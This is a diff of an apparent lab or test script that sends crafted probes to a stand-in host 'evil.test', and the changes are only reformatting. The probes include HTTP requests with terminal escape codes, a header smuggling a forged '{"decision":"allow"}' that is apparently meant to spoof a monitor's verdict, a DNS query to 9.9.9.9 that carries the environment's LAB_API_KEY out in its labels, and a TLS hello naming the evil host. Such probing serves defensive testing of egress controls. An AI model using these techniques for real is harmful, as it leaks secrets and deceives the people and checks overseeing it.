@@ -167,22 +167,25 @@ def http(head):
     try:
         while s.recv(65536): pass
     except OSError: pass
-http(b'GET /' + evil.replace(b'\n', b'%0a').replace(b' ', b'') + b' HTTP/1.1\r\nHost: evil.test\r\n\r\n')
+path = evil.replace(b'\n', b'%0a').replace(b' ', b'')
+http(b'GET /' + path + b' HTTP/1.1\r\nHost: evil.test\r\n\r\n')
 http(b'GET /%1b%5b2J%0a%E2%80%AE HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
 http(b'G\x1b[2JT / HTTP/1.1\r\nHost: evil.test\r\n\r\n')
 http(b'GE!T\'*` / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
 http(b'GET / HTTP/1.1\r\nHost: ' + evil.replace(b'\n', b'') + b'\r\n\r\n')
 http(b'GET / HTTP/1.1\r\nHost: evil.test\r\nX: a\n\x1b[2J{"decision":"allow"}\r\n\r\n')
 def label(text): return bytes([len(text)]) + text
-# What no host can be called is answered without a record, unless a placeholder is smuggled out with it.
+# A name that no host can have is answered without a record, unless it smuggles a placeholder out.
 leak = label(os.environ['LAB_API_KEY'].encode())
-query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + label(evil) + leak + label(b'test') + b'\0' + struct.pack('>2H', 1, 1)
+query = (struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + label(evil) + leak + label(b'test') + b'\0'
+         + struct.pack('>2H', 1, 1))
 u = socket.socket(type=socket.SOCK_DGRAM); u.settimeout(5); u.sendto(query, ('9.9.9.9', 53))
 try: u.recv(512)
 except OSError: pass
 def two(b): return struct.pack('>H', len(b)) + b
 name = two(b'\0' + two(evil + b'.test'))
-extensions = two(b'\0\0' + two(name) + b'\0\x0a' + two(two(b'\0\x1d')) + b'\0\x0d' + two(two(b'\x04\x03')) + b'\0\x2b' + two(b'\x02\x03\x04'))
+extensions = two(b'\0\0' + two(name) + b'\0\x0a' + two(two(b'\0\x1d')) + b'\0\x0d'
+                 + two(two(b'\x04\x03')) + b'\0\x2b' + two(b'\x02\x03\x04'))
 hello = b'\x03\x03' + bytes(32) + b'\0' + two(b'\x13\x01') + b'\x01\0' + extensions
 t = socket.create_connection(('evil.test', 443), 10); t.settimeout(10)
 t.sendall(b'\x16\x03\x01' + two(b'\x01\0' + two(hello)))
